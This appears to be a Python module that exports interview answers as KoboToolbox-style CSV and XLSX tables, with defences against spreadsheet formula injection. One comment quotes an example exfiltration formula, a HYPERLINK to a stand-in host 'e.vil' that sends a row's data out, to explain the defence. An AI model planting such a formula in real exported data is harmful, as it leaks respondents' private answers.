"""Interviews as tables the way KoboToolbox exports them, and their writers.

One table per questionnaire (named by its form id) and one per repeat
(``<form id>_<repeat name>``). Column names follow KoboToolbox's "XML values
and headers, include groups" export: the question's path with ``/`` between
groups (``route/crossed_at``); a select_multiple gets its column of
space-separated values and then one ``question/choice`` column per choice
(1 selected, 0 not, blank when unanswered); metadata columns start with
``_``: ``_id``, ``_uuid``, ``_submission_time``, ``_submitted_by``,
``__version__``, ``_index``, plus ``_site`` (our interviews carry a site).
Repeat tables add ``_parent_table_name``, ``_parent_index`` and
``_submission__id``/``_submission__uuid``/``_submission__submission_time``.

With a language (``--lang``), select values are the choices' labels in that
language (a select_multiple's labels are joined with ``"; "``), as Kobo's
label export does for values; without one, the choice names.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import tempfile
import threading
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from testimonio.atomic import atomic_file, move_into_place
from testimonio.forms.model import AnswerValue, Group, Privacy, Question, Questionnaire
from testimonio.forms.state_paths import model_path

Cell = str | int | float | None

META = ["_id", "_uuid", "_submission_time", "_submitted_by", "_site", "__version__", "_index"]
REPEAT_META = ["_index", "_parent_table_name", "_parent_index", "_submission__id",
               "_submission__uuid", "_submission__submission_time"]
#: Last column of every table (ours, not Kobo's): the answers of the row the researcher's
#: export (or the report's k-check) withheld, as "path:reason" separated by spaces, sorted;
#: empty when none was; UNKNOWN when an older bundle did not say.
WITHHELD_COLUMN = "_withheld"
UNKNOWN = "unknown"
_SELECTS = frozenset({"select_multiple", "rank"})
_NOT_COLUMNS = frozenset({"note"})


@dataclass(frozen=True)
class ReportInterview:
    """One interview as the report sees it: metadata and flat answers."""

    id: int
    uuid: str
    submission_time: str
    submitted_by: str
    site: str
    version: str
    answers: dict[str, AnswerValue]
    # Answer path -> why it was withheld (None: the interview's bundle did not say).
    withheld: dict[str, str] | None = None


@dataclass
class Table:
    """A named table: column names and rows of cells."""

    name: str
    columns: list[str]
    rows: list[list[Cell]] = field(default_factory=list)


def _direct_questions(group: Group) -> list[Question]:
    """Questions of ``group`` not inside a nested repeat, in form order."""
    found: list[Question] = []
    for child in group.children:
        if isinstance(child, Question):
            # Identifiers never have a value outside the vault: no column for them.
            if child.type not in _NOT_COLUMNS and child.privacy is not Privacy.IDENTIFIER:
                found.append(child)
        elif not child.repeat:
            found.extend(_direct_questions(child))
    return found


def _repeats(group: Group) -> list[Group]:
    """Repeats directly under ``group`` (through plain groups), in form order."""
    found: list[Group] = []
    for child in group.children:
        if isinstance(child, Group):
            if child.repeat:
                found.append(child)
            else:
                found.extend(_repeats(child))
    return found


def _columns(questions: Sequence[Question]) -> list[str]:
    cols: list[str] = []
    for q in questions:
        cols.append(q.path)
        if q.type in _SELECTS:
            cols.extend(f"{q.path}/{c.name}" for c in q.choices)
    return cols


class TableBuilder:
    """Builds the tables of one questionnaire, interview by interview."""

    def __init__(self, questionnaire: Questionnaire, lang: str | None = None) -> None:
        self.q = questionnaire
        self.lang = lang
        self._main_questions = _direct_questions(questionnaire.root)
        self.main = Table(questionnaire.form_id,
                          _columns(self._main_questions) + META + [WITHHELD_COLUMN])
        self.tables: list[Table] = [self.main]
        self._repeat_tables: dict[str, tuple[Table, list[Question]]] = {}
        self._add_repeat_tables(questionnaire.root)

    def _add_repeat_tables(self, group: Group) -> None:
        for rep in _repeats(group):
            questions = _direct_questions(rep)
            table = Table(f"{self.q.form_id}_{rep.name}",
                          _columns(questions) + REPEAT_META + [WITHHELD_COLUMN])
            self._repeat_tables[rep.path] = (table, questions)
            self.tables.append(table)
            self._add_repeat_tables(rep)

    def _cells(self, questions: Sequence[Question], answers: dict[str, AnswerValue], prefix: str) -> list[Cell]:
        row: list[Cell] = []
        for q in questions:
            value = answers.get(prefix + q.path)
            row.append(self._value(q, value))
            if q.type in _SELECTS:
                chosen = set(value) if isinstance(value, list) else None
                row.extend(None if chosen is None else int(c.name in chosen) for c in q.choices)
        return row

    def _value(self, q: Question, value: AnswerValue) -> Cell:
        if value is None or value == [] or value == "":
            return None
        if isinstance(value, list):
            if self.lang is None or not q.choices:
                return " ".join(value)
            return "; ".join(self._label(q, v) for v in value)
        if q.type == "select_one" and self.lang is not None and isinstance(value, str):
            return self._label(q, value)
        return value

    def _label(self, q: Question, name: str) -> str:
        for choice in q.choices:
            if choice.name == name:
                return choice.label.get(self.lang, self.q.default_language) or name
        return name

    def add(self, interview: ReportInterview) -> None:
        """Add one interview's rows to the main table and its repeat tables."""
        index = len(self.main.rows) + 1
        meta: list[Cell] = [interview.id, interview.uuid, interview.submission_time,
                            interview.submitted_by, interview.site, interview.version, index]
        self.main.rows.append(self._cells(self._main_questions, interview.answers, "") + meta
                              + [_withheld_cell(interview.withheld, None)])
        self._add_instances(self.q.root, interview, "", self.main.name, index)

    def _add_instances(self, group: Group, interview: ReportInterview, prefix: str,
                       parent_name: str, parent_index: int) -> None:
        for rep in _repeats(group):
            table, questions = self._repeat_tables[rep.path]
            # The repeat's path relative to its parent instance, with instance numbers.
            rel = rep.path[len(_strip(prefix)):] if prefix else rep.path
            for n in range(1, _instances(interview.answers, prefix + rel) + 1):
                inst = f"{prefix}{rel}[{n}]"
                idx = len(table.rows) + 1
                local = _localise(interview.answers, inst, rep.path)
                meta: list[Cell] = [idx, parent_name, parent_index, interview.id,
                                    interview.uuid, interview.submission_time]
                table.rows.append(self._cells(questions, local, "") + meta
                                  + [_withheld_cell(interview.withheld, (inst, rep.path))])
                self._add_instances(rep, interview, inst + "/", table.name, idx)


def _withheld_cell(found: dict[str, str] | None, instance: tuple[str, str] | None) -> str:
    """The ``_withheld`` cell of a row: its paths as the table names its columns.

    ``instance`` is (answer-path prefix, repeat model path) for a repeat row;
    the main row lists only answers outside repeats.
    """
    if found is None:
        return UNKNOWN
    if instance is None:
        mine = {p: r for p, r in found.items() if "[" not in p}
    else:
        mine = {str(p): str(r) for p, r in _localise(dict(found), *instance).items()}
    return " ".join(f"{p}:{r}" for p, r in sorted(mine.items()))


def _strip(answer_prefix: str) -> str:
    return model_path(answer_prefix)


def _instances(answers: dict[str, AnswerValue], repeat_answer_path: str) -> int:
    """Instances of a repeat: the stored count, else the highest instance seen."""
    count = answers.get(repeat_answer_path)
    if isinstance(count, int) and not isinstance(count, bool):
        return count
    pattern = re.compile(re.escape(repeat_answer_path) + r"\[(\d+)\]")
    return max((int(m.group(1)) for p in answers if (m := pattern.match(p))), default=0)


def _localise(answers: dict[str, AnswerValue], inst: str, repeat_path: str) -> dict[str, AnswerValue]:
    """Answers of one repeat instance re-keyed by model path (``kids/age``)."""
    head = inst + "/"
    out: dict[str, AnswerValue] = {}
    for path, value in answers.items():
        if path.startswith(head):
            rest = path[len(head):]
            if "[" not in rest:  # answers of nested repeats belong to their own table
                out[f"{repeat_path}/{rest}"] = value
    return out


def build_tables(questionnaire: Questionnaire, interviews: Iterable[ReportInterview],
                 lang: str | None = None) -> list[Table]:
    """The main table and one table per repeat for one questionnaire."""
    builder = TableBuilder(questionnaire, lang)
    for interview in interviews:
        builder.add(interview)
    return builder.tables


def _safe_file_name(name: str) -> str:
    return re.sub(r"[^A-Za-z0-9_.-]", "_", name)[:100] or "table"


# A spreadsheet opening a CSV runs a cell that starts with one of these as a
# formula (=HYPERLINK("//e.vil/?"&D2,...) sends the row away). OWASP's advice:
# put a single quote before it, so it shows as the text it is. Fullwidth
# forms count too: some spreadsheets read them as the ASCII signs.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_cell(value: Cell) -> Cell:
    """A cell as written to CSV: empty for None, text that could run as a formula neutralised."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def write_csv(tables: Sequence[Table], directory: Path) -> list[Path]:
    """One UTF-8 CSV per table in ``directory`` (created), each written atomically."""
    directory.mkdir(parents=True, exist_ok=True)
    written = []
    for table in tables:
        target = directory / f"{_safe_file_name(table.name)}.csv"
        with atomic_file(target) as raw:
            text = io.TextIOWrapper(raw, encoding="utf-8", newline="")
            writer = csv.writer(text)
            writer.writerow([csv_cell(c) for c in table.columns])
            writer.writerows([csv_cell(c) for c in row] for row in table.rows)
            text.flush()
            text.detach()  # the helper flushes, syncs and closes the file itself
        written.append(target)
    return written


def write_xlsx(tables: Sequence[Table], file: Path) -> Path:
    """One sheet per table in an .xlsx workbook, written atomically.

    Every text cell is stored as text: an answer that starts with ``=``
    must never become a formula in the analyst's spreadsheet. openpyxl's
    write-only mode keeps each sheet in a temporary file until it saves;
    those files go to a scratch folder beside ``file`` (removed afterwards),
    never to the system's temp folder, where answers would outlive the report.
    """
    from openpyxl import Workbook

    file.parent.mkdir(parents=True, exist_ok=True)
    # The sheets' files and the workbook itself are made in one scratch folder
    # on the report's file system; the finished workbook is renamed into place.
    scratch = Path(tempfile.mkdtemp(dir=file.parent, prefix=".tmp-report-"))
    tmp = scratch / "report.xlsx"
    try:
        with _TEMP_LOCK:
            previous, tempfile.tempdir = tempfile.tempdir, str(scratch)
            try:
                wb = Workbook(write_only=True)
                used: set[str] = set()
                for table in tables:
                    sheet = wb.create_sheet(_sheet_title(table.name, used))
                    sheet.append(table.columns)
                    for row in table.rows:
                        sheet.append([_xlsx_cell(sheet, c) for c in row])
                wb.save(tmp)
            finally:
                tempfile.tempdir = previous
        os.chmod(tmp, 0o600)  # like the CSVs: only this user reads the answers
        move_into_place(tmp, file)
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
    return file


#: tempfile.tempdir is process-wide: one workbook at a time points it at its scratch folder.
_TEMP_LOCK = threading.Lock()


def _xlsx_cell(sheet: object, value: Cell) -> object:
    if isinstance(value, str):
        from openpyxl.cell import WriteOnlyCell

        cell = WriteOnlyCell(sheet, value=None)
        cell.value = value
        cell.data_type = "s"
        return cell
    return value


def _sheet_title(name: str, used: set[str]) -> str:
    # Excel: at most 31 characters, none of []:*?/\ and unique in the workbook.
    base = re.sub(r"[\[\]:*?/\\]", "_", name)[:31] or "table"
    title, n = base, 1
    while title.lower() in used:
        n += 1
        title = f"{base[:28]}~{n}"
    used.add(title.lower())
    return title
